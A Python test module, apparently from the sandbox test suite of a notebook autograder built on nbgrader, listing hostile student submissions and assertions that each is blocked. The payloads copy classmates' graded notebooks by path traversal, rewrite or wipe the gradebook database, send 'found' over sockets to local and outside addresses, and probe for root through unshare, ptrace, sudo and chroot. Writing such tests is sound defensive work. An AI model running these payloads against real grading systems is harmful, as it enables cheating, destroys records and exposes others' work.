"""What belongs to others: classmates' work, the gradebook, the network, other programs of this machine."""

from tests.hostile import MARK, PORT, Attack
from tests.hostile.files import COPIED, LOOT

ATTACKS = [
    Attack(
        "classmate's work copied",
        "The answers are taken from what a good student handed in.",
        {"primes": COPIED + "copied('../../../submitted/a_honest/ps1/ps1.ipynb')"},
        stock=True,
    ),
    Attack(
        "classmates' work printed",
        "What others handed in, and what was graded already.",
        {"primes": LOOT + "loot('../../../submitted/*_honest/ps1/*.ipynb', '../../*/*/*.ipynb')"},
        stock=True,
        harmless=lambda result: _no_work_of_others(result),
    ),
    Attack(
        "gradebook rewritten",
        "Points are written into nbgrader's database.",
        {
            "primes": """
import os, sqlite3
me = os.getcwd().split('/')[-2]
book = sqlite3.connect('../../../gradebook.db', timeout=3)
book.execute('''UPDATE grade SET extra_credit = 50 WHERE notebook_id IN (
    SELECT submitted_notebook.id FROM submitted_notebook JOIN submitted_assignment
    ON submitted_notebook.assignment_id = submitted_assignment.id WHERE student_id = ?)''', (me,))
book.commit()
book.close()"""
        },
        stock=True,
    ),
    Attack(
        "gradebook through nbgrader",
        "nbgrader's own library is in the student's Python too.",
        {
            "primes": """
import glob
from nbgrader.api import Gradebook
for path in ['../../../gradebook.db', *glob.glob('/**/gradebook.db', recursive=True)]:
    with Gradebook('sqlite:///' + path) as book:
        for student in book.students:
            book.remove_student(student.id)"""
        },
    ),
    Attack(
        "telling somebody",
        "A server, on this machine or far away, is sent what was found.",
        {
            "primes": f"""
import socket
for place in [('127.0.0.1', {PORT}), ('localhost', {PORT}), ('192.0.2.1', 80)]:
    try:
        socket.create_connection(place, timeout=0.5).send(b'found')
        print('REACHED', place)
    except OSError as error:
        print(error)
for kind, place in [(socket.SOCK_STREAM, '\\0{MARK}'), (socket.SOCK_DGRAM, '/dev/log')]:
    try:
        socket.socket(socket.AF_UNIX, kind).connect(place)
        print('REACHED', place)
    except OSError as error:
        print(error)"""
        },
        harmless=lambda result: _nobody_reached(result),
    ),
    Attack(
        "rights gained",
        "Namespaces, mounts and a set-user-id program: to get out.",
        {
            "primes": """
import ctypes, glob, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
print('unshared', libc.unshare(0x10000000), libc.unshare(0x20000), libc.ptrace(16, os.getppid(), 0, 0))
for command in (['sudo', '-n', 'id'], ['su', '-c', 'id'], ['mount', '-t', 'tmpfs', 'x', '/tmp'], ['chroot', '/', 'id']):
    try:
        print(command, subprocess.run(command, capture_output=True, timeout=2))
    except Exception as error:
        print(error)
print('user', os.getuid())"""
        },
        harmless=lambda result: _no_rights(result),
    ),
]


def _no_work_of_others(result):
    assert "sliding_window_view" not in result.outputs


def _nobody_reached(result):
    assert "REACHED" not in result.outputs


def _no_rights(result):
    assert "unshared -1 -1 -1" in result.outputs and "uid=0" not in result.outputs
    assert "user 0" not in result.outputs
